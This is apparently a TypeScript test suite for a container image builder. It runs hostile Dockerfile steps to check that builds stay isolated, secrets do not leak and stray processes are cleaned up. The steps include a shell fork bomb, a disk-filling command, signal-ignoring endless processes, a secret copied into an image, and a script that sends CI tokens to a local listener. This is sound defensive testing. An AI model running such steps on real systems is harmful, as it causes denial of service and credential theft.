import { randomBytes } from 'node:crypto';
import { once } from 'node:events';
import { chmodSync, openSync, readFileSync } from 'node:fs';
import { mkdir, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { text } from 'node:stream/consumers';
import { createRegistryClient, type Image, imageOf } from '@tozo/registry-pusher';
import { afterAll, beforeAll, beforeEach, describe, expect, it, onTestFinished } from 'vitest';
import { contentBytes } from './run-attacks/image-bytes.ts';
import { type Build, type BuildPlace, startBuild } from './run-attacks/builds.ts';
import { findLeftBehind, nothing } from './run-attacks/left-behind.ts';
import { limitProcesses } from './run-attacks/limits.ts';
import { type Registry, startGeneralRegistry } from './pusher-registries.ts';
import { imageOfTar, runBase } from './run-builder/base.ts';
import { privileges, type RunMode } from './run-builder/direct-builds.ts';
import { writeDebianParts } from './run-containers/debian-parts.ts';
import { missingPrograms } from './server-process.ts';

const absent = missingPrograms(['setpriv', 'nsenter', 'unshare', 'newuidmap']);
const blocker = process.getuid?.() === 0 ? absent.map((name) => `not installed: ${name}`)[0] : 'privileges need root';
if (blocker !== undefined) console.log(`skipped: ${blocker}`);

/** All attacks take minutes: `npm run prove run-attacks`. */
const isWhole = process.env['RUN_ATTACKS'] === 'all';
const modes: readonly RunMode[] = isWhole ? ['namespaces', 'chroot', 'user namespace'] : ['chroot'];
/** For attacks that take longer or need the large base. */
const longModes = isWhole ? modes : [];

describe.skipIf(blocker !== undefined)('a RUN that attacks', () => {
  let shared: string;
  let directory: string;
  let registry: Registry;

  beforeAll(async () => {
    shared = await mkdtemp(join(tmpdir(), 'tozo-attacks-base-'));
    registry = await startGeneralRegistry({});
    const small = runBase(join(shared, 'base'));
    await push(small, 'small');
    if (!isWhole) return;
    writeDebianParts(join(shared, 'node.tar'));
    const { config, layers } = imageOfTar(await readFile(join(shared, 'node.tar')));
    await push(imageOf({ ...config, config: { Env: ['PATH=/usr/bin:/bin'] } }, layers), 'node');
  });
  afterAll(async () => {
    await registry?.[Symbol.asyncDispose]();
    await rm(shared, { recursive: true, force: true });
  });
  beforeEach(async () => {
    directory = await mkdtemp(join(tmpdir(), 'tozo-attack-'));
    chmodSync(directory, 0o755);
    await mkdir(join(directory, 'tmp'));
    chmodSync(join(directory, 'tmp'), 0o1777);
    onTestFinished(() => rm(directory, { recursive: true, force: true }));
  });

  async function push(image: Image, repository: string): Promise<void> {
    const client = createRegistryClient();
    try {
      await client.push(image, { registry: registry.name, repository, tag: 'latest' });
    } finally {
      await client.close();
    }
  }

  const build = (mode: RunMode, dockerfile: string, place: Partial<BuildPlace> = {}): Promise<Build> =>
    startBuild(dockerfile.replace('FROM ', `FROM ${registry.name}/`), {
      directory,
      target: `${registry.name}/attacked:latest`,
      ...place,
      prefix: [...(place.prefix ?? []), ...privileges[mode]],
    });
  const leftBehind = () => findLeftBehind(directory, 'attack-4711');

  it.each(longModes)('finds nothing of the job in the environment, /proc, descriptors and files (%s)', async (mode) => {
    const secret = `sentinel-${randomBytes(12).toString('hex')}`;
    const received: string[] = [];
    const home = await startHome(async (body) => void received.push(body));
    onTestFinished(() => void home.close());
    await writeFile(join(directory, 'job-file'), secret);
    const url = `http://127.0.0.1:${(home.address() as AddressInfo).port}/`;
    const started = await build(
      mode,
      `FROM node\nCOPY steal.js /\nRUN ["node", "/steal.js", "${directory}", "${url}"]\nRUN echo "later" > /later\n`,
      {
        env: { CI: 'true', CI_JOB_TOKEN: secret, GITLAB_TOKEN: secret, NPM_TOKEN: secret },
        files: { 'steal.js': readFileSync(new URL('run-attacks/steal.js', import.meta.url), 'utf8') },
        options: ['--cache-to', `${registry.name}/attacked-cache`],
        stdio: [openSync(join(directory, 'job-file'), 'r')],
      },
    );
    expect({ ...(await started.ended), output: started.output() }).toMatchObject({ code: 0 });
    // It ran, and sent what it found.
    expect(received.join()).toContain('"env"');
    const client = createRegistryClient();
    onTestFinished(() => client.close());
    const image = await contentBytes(client, `${registry.name}/attacked:latest`);
    expect(image.toString('latin1')).toContain('stolen.json');
    const cacheTags = await contentBytes(client, `${registry.name}/attacked-cache`, true);
    for (const [where, bytes] of Object.entries({
      image,
      cacheTags,
      output: started.output(),
      received: received.join(),
    }))
      expect(bytes.includes(secret), where).toBe(false);
    expect(leftBehind()).toEqual(nothing);
  });

  it.each(modes)(
    'that writes a build secret into the image ends the build, and nothing is pushed or cached (%s)',
    async (mode) => {
      const secret = `sentinel-${randomBytes(12).toString('hex')}`;
      const cache = `${registry.name}/leaked-cache-${mode.replaceAll(' ', '-')}`;
      const target = `${registry.name}/leaked-${mode.replaceAll(' ', '-')}:latest`;
      const leak =
        'FROM small\nRUN echo first > /first\nRUN --mount=type=secret,id=npmrc cat /run/secrets/npmrc > /.npmrc\n';
      const started = await build(mode, leak, {
        target,
        env: { npmrc: `//registry.example/:_authToken=${secret}\n` },
        options: ['--secret', 'id=npmrc', '--cache-to', cache],
      });
      expect(await started.ended).toMatchObject({ code: 1 });
      expect(started.output()).toContain('Dockerfile line 3: /.npmrc contains the value of the build secret npmrc.');
      expect(started.output()).not.toContain(secret);
      for (const name of [cache, target.replace(/:latest$/, '')]) {
        const response = await fetch(`http://${name.replace('/', '/v2/')}/tags/list`);
        expect(response.status, name).toBe(404);
      }
      expect(leftBehind()).toEqual(nothing);
    },
  );

  it.each(longModes)('that fills the disk ends with a sentence, and frees it (%s)', async (mode) => {
    const mount = `mount -t tmpfs -o size=48m,mode=1777 tmpfs "$0" && exec "$@"`;
    const prefix = ['unshare', '--mount', '--', '/bin/sh', '-c', mount, join(directory, 'tmp')];
    const full = await build(mode, 'FROM small\nRUN head -c 100000000 /dev/zero > /big\n', { prefix });
    expect(await full.ended).toMatchObject({ code: 1 });
    expect(full.output()).toMatch(
      /No space left on device|Dockerfile line 2: .* ended with exit code|No space is left/,
    );
    const unpacked = await build(mode, 'FROM node\nRUN true\n', { prefix });
    expect(await unpacked.ended).toMatchObject({ code: 1 });
    expect(unpacked.output()).toContain('No space is left for the files of a RUN (ENOSPC)');
    expect(leftBehind()).toEqual(nothing);
  });

  it.each(longModes)('that forks without end is ended at its time limit (%s)', async (mode) => {
    using limit = limitProcesses(150);
    if (limit === undefined) return console.log('skipped: control groups can’t be used here');
    const bomb = 'FROM small\nRUN bomb() { bomb | bomb & }; bomb; sleep 4711\n';
    const started = await build(mode, bomb, { prefix: limit.enter, options: ['--run-timeout', '3'] });
    expect(await started.ended).toMatchObject({ code: 1 });
    expect(started.output()).toMatch(/Dockerfile line 2: RUN bomb/);
    expect(leftBehind()).toEqual(nothing);
  });

  it.each(modes)('that never ends is ended by SIGINT, with everything it started (%s)', async (mode) => {
    const endless =
      'FROM small\nRUN sh -c \'trap "" INT TERM HUP; sleep 4711 & echo attack-4711; wait\' & echo go; sleep 4711\n';
    const started = await build(mode, endless);
    await started.prints('attack-4711');
    started.child.kill('SIGINT');
    expect(await started.ended).toEqual({ code: 130, signal: null });
    expect(leftBehind()).toEqual(nothing);
  });

  it.each(modes)('of a build that is killed ends, and the next build removes its files (%s)', async (mode) => {
    const started = await build(mode, 'FROM small\nRUN echo attack-4711; echo x > /x; sleep 4711\n');
    await started.prints('attack-4711\n');
    started.child.kill('SIGKILL');
    await started.ended;
    // Where /proc is real, the system ends all processes of the RUN. Otherwise the next build does.
    if (mode !== 'chroot') await expect.poll(() => leftBehind().processes, { timeout: 10_000 }).toEqual([]);
    const next = await build(mode, 'FROM small\nRUN echo y > /y\n');
    expect({ ...(await next.ended), output: next.output() }).toMatchObject({ code: 0 });
    expect(leftBehind()).toEqual(nothing);
  });

  it.each(modes)('leaves no daemon behind (%s)', async (mode) => {
    const daemon = "FROM small\nRUN (sh -c 'exec sleep 4711' attack-4711 &) ; echo started\n";
    const started = await build(mode, daemon);
    expect({ ...(await started.ended), output: started.output() }).toMatchObject({ code: 0 });
    expect(leftBehind()).toEqual(nothing);
  });
});

async function startHome(receive: (body: string) => Promise<void>): Promise<Server> {
  const server = createServer((request, response) => {
    void text(request)
      .then(receive)
      .then(() => response.end());
  }).listen(0, '127.0.0.1');
  await once(server, 'listening');
  return server;
}
